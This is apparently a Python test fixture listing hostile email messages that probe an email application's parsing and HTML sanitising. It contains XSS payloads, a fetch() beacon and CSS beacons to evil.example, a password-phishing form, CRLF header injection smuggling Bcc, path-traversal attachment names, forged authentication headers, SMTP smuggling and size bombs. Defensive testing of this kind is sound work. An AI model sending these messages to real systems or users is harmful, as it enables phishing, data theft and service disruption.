"""Messages of a sender who means harm; the word `harmless` stands in what may be read of each."""

# ruff: noqa: E501 - a message a line

from __future__ import annotations

import base64
import zlib

HEAD = b"From: Eve <eve@evil.example>\nTo: alex@example.org\nSubject: harmless\nMessage-ID: <%s@evil.example>\nMIME-Version: 1.0\n"
HTML = b"Content-Type: text/html; charset=utf-8\n\n<p>harmless</p>"
RUN = b"fetch('https://evil.example/ran')"


def head(name: str) -> bytes:
    return HEAD % name.encode()


def page(name: str, html: bytes) -> bytes:
    return head(name) + HTML + html


def part(kind: bytes, content: bytes, *fields: bytes) -> bytes:
    extra = b"".join(field + b"\n" for field in fields)
    return b"--b\nContent-Type: " + kind + b"\n" + extra + b"\n" + content + b"\n"


def mixed(name: str, *parts: bytes, kind: bytes = b"mixed") -> bytes:
    top = b"Content-Type: multipart/" + kind + b"; boundary=b\n\n"
    return head(name) + top + part(b"text/plain", b"harmless") + b"".join(parts) + b"--b--\n"


def calendar(lines: bytes) -> bytes:
    return b"BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n" + lines + b"\nEND:VEVENT\nEND:VCALENDAR"


NASTY: dict[str, bytes] = {
    "header bomb": head("bomb") + b"".join(b"X-%d: y\n" % n for n in range(50_000)) + b"\nharmless",
    "header of a megabyte": head("long") + b"X-Long: " + b"y " * 500_000 + b"\n\nharmless",
    "folds without end": head("fold") + b"X-Fold:" + b"\n x" * 100_000 + b"\n\nharmless",
    "encoded words in a recipient": b"To: =?utf-8?q?a=40b=2Ec=2C_bob=40evil=2Eexample?= <x@y.example>\n" + head("word") + b"\nharmless",
    "line ends in a subject": b"Subject: =?utf-8?q?harmless=0D=0ABcc=3A_victim=40example=2Ecom?=\n" + head("crlf") + b"\nharmless",
    "several senders": b"From: boss@example.com, Eve <eve@evil.example>\nSender: x@evil.example\n" + head("from") + b"\nharmless",
    "a sender in a name": b'From: "boss@example.com" <eve@evil.example>\n' + head("name") + b"\nharmless",
    "a sender of nobody": b"From: <>\n" + head("nobody") + b"\nharmless",
    "replies to a crowd": head("crowd") + b"Reply-To: " + b", ".join(b"v%d@example.com" % n for n in range(3000)) + b"\n\nharmless",
    "replies to a group": head("group") + b"Reply-To: all: a@example.com, b@example.com;, c@example.com\n\nharmless",
    "replies to a header": head("inject") + b'Reply-To: "x\r\n\tBcc: v@example.com" <a@example.com>\n\nharmless',
    "an address beyond ASCII": head("utf8") + "Reply-To: Jürgen <jürgen@exämple.example>\n\nharmless".encode(),
    "references in a loop": head("loop") + b"References: <loop@evil.example> <b@evil.example> <loop@evil.example>\nIn-Reply-To: <loop@evil.example>\n\nharmless",
    "references without end": head("refs") + b"References:" + b"".join(b" <%d@evil.example>" % n for n in range(20_000)) + b"\n\nharmless",
    "an id without end": b"Message-ID: <" + b"a" * 400_000 + b"@evil.example>\n" + head("id") + b"\nharmless",
    "a verdict of its own": head("auth") + b"Authentication-Results: mx.example.org; dmarc=pass header.from=bank.example; spf=pass\nARC-Authentication-Results: i=1; mx.example.org; dmarc=pass\n\nharmless",
    "dates beyond time": b"Date: Mon, 1 Jan 99999 00:00:00 +9999\nReceived: x; Fri, 31 Dec 9999 23:59:59 -1200\n" + head("date") + b"\nharmless",
    "NUL": head("nul").replace(b"harmless", b"harm\0less") + b"\nharm\0less\0",
    "one line of ten megabytes": head("line") + b"\nharmless " + b"x" * 10_000_000,
    "base64 that is none": mixed("b64", part(b"application/pdf", b"====!!!!\0" * 1000, b"Content-Transfer-Encoding: base64")),
    "a charset that unpacks": head("zip") + b"Content-Type: text/plain; charset=zlib_codec\n\nharmless" + zlib.compress(b"x" * 10_000_000),
    "a charset of none": head("charset") + b"Content-Type: text/plain; charset=\"../../etc/passwd\"\n\nharmless",
    "UTF-7": head("utf7") + b"Content-Type: text/html; charset=utf-7\n\n<p>harmless</p>+ADw-script+AD4-" + RUN + b"+ADw-/script+AD4-",
    "messages in messages": head("nest") + b"Content-Type: message/rfc822\n\n" * 500 + b"Subject: harmless\n\nharmless",
    "a part without end": mixed("open", b"--b\n" * 20_000),
    "the same boundary inside": mixed("same", part(b"multipart/mixed; boundary=b", b"", part(b"text/plain", b"in"))),
    "a name that reads backwards": mixed("rtl", part(b"application/octet-stream", b"x", "Content-Disposition: attachment; filename=\"bill\u202efdp.exe\"".encode())),
    "a name that is a path": mixed("path", part(b"text/html", b"<script>x</script>", b'Content-Disposition: attachment; filename="../../.ssh/authorized_keys"')),
    "a name of line ends": mixed("names", part(b"image/svg+xml", b"<svg onload=x>", b"Content-Disposition: attachment; filename*=utf-8''a%0d%0aSet-Cookie:x%3b.svg")),
    "a thousand files": mixed("files", *(part(b"a/b", b"x", b"Content-Disposition: attachment; filename=%d" % n) for n in range(1000))),
    "winmail.dat": mixed("tnef", part(b"application/ms-tnef", base64.b64encode(b"\x78\x9f\x3e\x22" + b"\xff" * 5000), b"Content-Transfer-Encoding: base64", b"Content-Disposition: attachment; filename=winmail.dat")),
    "an event without end": mixed("rrule", part(b"text/calendar; method=REQUEST", calendar(b"SUMMARY:harmless\nDTSTART:20310101T100000Z\nRRULE:FREQ=SECONDLY;COUNT=" + b"9" * 100_000 + b"\nEXDATE:" + b"20310101T100000Z," * 20_000))),
    "an event in a zone of a path": mixed("zone", part(b"text/calendar", calendar(b"SUMMARY:<script>x</script>\nDTSTART;TZID=../../../etc/passwd:20310101T100000"))),
    "a cid that is everything": mixed("cid", part(b"text/html", b'<img src="cid:a"><img src="cid:&quot;onerror=x"><img src="cid:%22%3E%3Cscript%3E">'), part(b"image/svg+xml", b"<svg onload=alert(1)>", b"Content-ID: <a>"), part(b"text/html", b"<script>x</script>", b'Content-ID: <"onerror=x>'), kind=b"related"),
    "a cid shown a thousand times": mixed("cids", part(b"text/html", b'<img src="cid:a">' * 5000), part(b"image/png", b"\x89PNG\r\n\x1a\n" + b"P" * 50_000, b"Content-ID: <a>"), kind=b"related"),
    "links that run": page("links", b'<a href="javascript:' + RUN + b'">a</a><a href="data:text/html,<script>x</script>">b</a><a href="jAvAsCrIpT&colon;x">c</a><a href="\x01javascript:x">d</a><a href="file:///etc/passwd">e</a><a href="/logout/">f</a><a href="https:evil">g</a>'),
    "a page that goes away": page("away", b'<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><base target="_top"><a href="x">x</a>'),
    "svg and mathml": page("svg", b'<svg><style><img src=x onerror=x></style><a xlink:href="javascript:x"><text>y</text></a><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg><math><maction actiontype="statusline" xlink:href="javascript:x">z</maction></math>'),
    "a form": page("form", b'<form action="https://evil.example/"><input name="password" autofocus><button formaction="javascript:x">Log in</button></form><isindex action="https://evil.example/">'),
    "words over the page": page("over", b'<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div><dialog open>y</dialog><div popover id=x>z</div>'),
    "a page of the application's": page("app", b'<div id="email-list" hx-get="/emails/" hx-trigger="load" data-hx-post="/x" class="card" hx-swap-oob="true" aria-label="x" contenteditable accesskey="x" slot="x" is="x">x</div>'),
    "styles that fetch": page("css", b'<p style="background:u\\72l(https://evil.example/1);list-style:url(https://evil.example/2);content:url(https://evil.example/3);cursor:url(https://evil.example/4);border-image:url(https://evil.example/5);filter:url(https://evil.example/6)">x</p><style>@import "https://evil.example/7";p{background:image-set("https://evil.example/8" 1x)}@font-face{font-family:x;src:url(https://evil.example/9)}</style>'),
    "a table without end": page("table", b"<table><tr><td>" * 5000),
    "a selector without end": page("sheet", b"<style>" + b"a," * 90_000 + b"a{color:red}</style>" + b"<a href=https://e.example>x</a>" * 3000),
    "quotations without end": head("quote") + b"\nharmless\n" + b"".join(b">" * n + b" x\n" for n in range(3000)),
    "words that are all attributions": head("wrote") + b"\nharmless\n" + (b"On 1 2 wrote a <b@c.d>\n" * 20 + b":\n") * 1000,
    "letters upon letters": head("zalgo") + "\nharmless h\u0335\u0328".encode() + "\u0335\u0328\u0353".encode() * 100_000,
    "no header but a body": b"\n\n<script>harmless</script>",
    "a postmark inside": head("mark") + b"\nharmless\n\nFrom eve@evil.example Tue Nov  3 09:58:00 2026\nFrom: boss@example.com\nSubject: forged\n\nforged\n",
    "a line of a dot": head("dot") + b"\nharmless\n.\nMAIL FROM:<eve@evil.example>\n..\n",
}  # fmt: skip
